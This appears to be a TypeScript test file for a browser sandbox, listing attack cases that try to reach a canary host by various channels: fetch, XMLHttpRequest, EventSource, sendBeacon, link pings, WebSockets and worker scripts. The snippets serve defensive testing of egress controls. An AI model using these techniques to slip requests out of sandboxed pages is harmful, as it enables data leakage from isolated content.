import { type Attack, markup, script } from './attack.ts';

export const requests: Attack[] = [
  script('fetch', (url) => `fetch('${url}', { mode: 'no-cors' })`),
  script('fetch over https', (url) => `fetch('${url.replace('http:', 'https:')}', { mode: 'no-cors' })`),
  script('fetch with keepalive', (url) => `fetch('${url}', { mode: 'no-cors', keepalive: true })`),
  script('fetch that redirects', () => `fetch('/bounce', { mode: 'no-cors' })`),
  script('XMLHttpRequest', (url) => `const r = new XMLHttpRequest(); r.open('POST', '${url}'); r.send('x')`),
  script('EventSource', (url) => `new EventSource('${url}')`),
  script('sendBeacon', (url) => `navigator.sendBeacon('${url}', 'x')`),
  markup('link ping', (url) => `<a href="#x" ping="${url}">x</a><script>document.links[0].click()</script>`),
  script('WebSocket', (url) => `new WebSocket('${url.replace('http:', 'ws:')}')`),
  script('secure WebSocket', (url) => `new WebSocket('${url.replace('http:', 'wss:')}')`),
  script('worker importing a script', () => `new Worker('/worker.js')`, {
    files: ({ canary }) => ({
      '/worker.js': { type: 'text/javascript', body: `importScripts('http://${canary}/')` },
    }),
  }),
  script('shared worker fetching', () => `new SharedWorker('/shared.js')`, {
    files: ({ canary }) => ({
      '/shared.js': { type: 'text/javascript', body: `fetch('http://${canary}/', { mode: 'no-cors' })` },
    }),
  }),
  script(
    'service worker fetching',
    () => `navigator.serviceWorker.register('/service.js', { scope: '/nowhere/' })`,
    {
      files: ({ canary }) => ({
        '/service.js': {
          type: 'text/javascript',
          body: `addEventListener('install', (e) => e.waitUntil(fetch('http://${canary}/', { mode: 'no-cors' })))`,
        },
      }),
    },
  ),
];
